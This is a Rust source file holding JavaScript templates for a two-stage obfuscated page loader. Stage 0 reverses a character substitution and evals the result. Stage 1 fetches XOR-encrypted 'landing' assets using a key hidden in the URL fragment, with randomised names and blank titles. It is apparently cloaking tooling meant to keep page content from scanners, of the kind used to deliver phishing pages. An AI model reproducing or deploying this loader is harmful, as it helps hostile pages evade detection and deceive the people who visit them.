//! Loader templates.
//!
//! Placeholders are `{name}` and are filled by [`render`]. Every value is
//! ASCII by the time it is rendered, so the rendered stage 1 is always
//! covered by the substitution table.

/// Stage 1: fetches the landing assets, XOR-decrypts them with a key taken
/// from the URL fragment or set by hand, and mounts the front end.
///
/// Placeholders:
/// - `{key_var}` - global the operator may assign the key to
/// - `{timer_var}` - key polling interval handle
/// - `{fetch_fn}` - fetch and decrypt one asset
/// - `{hash_fn}` - read the key from the URL fragment
/// - `{assemble_fn}` - mount the front end
/// - `{query}` - `param=value` appended to every asset URL
/// - `{root_id}` - JSON string, id of the root element
/// - `{links}` - JSON array of `[url, rel, type]`
/// - `{scripts}` - JSON array of script URLs, in load order
pub const STAGE1_JS: &str = r##"// Stage 1
var {key_var};
var {timer_var};

async function {fetch_fn}(url, key) {
    const res = await fetch(url + "?" + "{query}");
    const raw = window.atob(await res.text());
    const k = new TextEncoder().encode(key);
    const out = new Uint8Array(raw.length);
    for (let i = 0; i < raw.length; i++) {
        out[i] = raw.charCodeAt(i) ^ k[i % k.length];
    }
    return out;
}

function {hash_fn}() {
    const parts = window.location.href.split("#");
    if (parts.length === 2 && parts[1].length > 0) {
        {key_var} = decodeURIComponent(parts[1]);
    }
}

async function {assemble_fn}(key) {
    const head = document.getElementsByTagName("head")[0];
    const body = document.getElementsByTagName("body")[0];

    let ele = document.createElement("meta");
    ele.setAttribute("charset", "UTF-8");
    head.appendChild(ele);

    ele = document.createElement("div");
    ele.setAttribute("id", {root_id});
    body.appendChild(ele);

    /* Stylesheets, icons and manifests */
    const links = {links};
    for (let i = 0; i < links.length; i++) {
        const data = await {fetch_fn}(links[i][0], key);
        ele = document.createElement("link");
        ele.setAttribute("rel", links[i][1]);
        ele.setAttribute("href", URL.createObjectURL(new Blob([data], { type: links[i][2] })));
        head.appendChild(ele);
    }

    /* Scripts execute in list order */
    const scripts = {scripts};
    for (let i = 0; i < scripts.length; i++) {
        const data = await {fetch_fn}(scripts[i], key);
        ele = document.createElement("script");
        ele.async = false;
        ele.setAttribute("src", URL.createObjectURL(new Blob([data], { type: "text/javascript" })));
        body.appendChild(ele);
    }
}

{hash_fn}();
{timer_var} = setInterval(function () {
    {hash_fn}();
    if ({key_var}) {
        clearInterval({timer_var});
        {assemble_fn}({key_var});
    }
}, 1000);
"##;

/// Stage 0: reverses the substitution and evaluates stage 1 in global
/// scope, so the stage 1 key variable stays reachable from the console.
///
/// Placeholders:
/// - `{key_var}`, `{payload_var}`, `{buffer_var}` - random names
/// - `{unshuffle_key}` - JSON object mapping substituted to original chars
/// - `{payload}` - base64 of the substituted stage 1
pub const STAGE0_JS: &str = r#"// Stage 0
var {key_var} = {unshuffle_key};
var {payload_var} = window.atob("{payload}");
var {buffer_var} = "";
for (let i = 0; i < {payload_var}.length; i++) {
    {buffer_var} += {key_var}[{payload_var}[i]];
}
{payload_var} = null;
(0, eval)({buffer_var});
"#;

/// Manual page: shows the loader for pasting into developer tools.
///
/// Placeholders:
/// - `{script}` - HTML-escaped loader
pub const MANUAL_HTML: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<title></title>
<style>textarea { width: 100%; height: 60vh; font-family: monospace; }</style>
</head>
<body>
<p>Paste the script below into the developer console of this page, then assign the key.</p>
<textarea readonly>{script}</textarea>
</body>
</html>
"#;

/// Automatic page: runs the loader on load.
///
/// Placeholders:
/// - `{script}` - loader with `</` escaped
pub const AUTO_HTML: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<title></title>
</head>
<body>
<script>{script}</script>
</body>
</html>
"#;

/// Fill `{name}` placeholders in one pass.
///
/// Braces that do not enclose a known name are copied through, so object
/// literals in templates and braces inside values are left untouched.
pub fn render(template: &str, values: &[(&str, &str)]) -> String {
    let mut out = String::with_capacity(template.len());
    let mut rest = template;

    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];

        let value = after.find('}').and_then(|close| {
            let name = &after[..close];
            values
                .iter()
                .find(|(key, _)| *key == name)
                .map(|(_, value)| (close, *value))
        });

        match value {
            Some((close, value)) => {
                out.push_str(value);
                rest = &after[close + 1..];
            }
            None => {
                out.push('{');
                rest = after;
            }
        }
    }

    out.push_str(rest);
    out
}
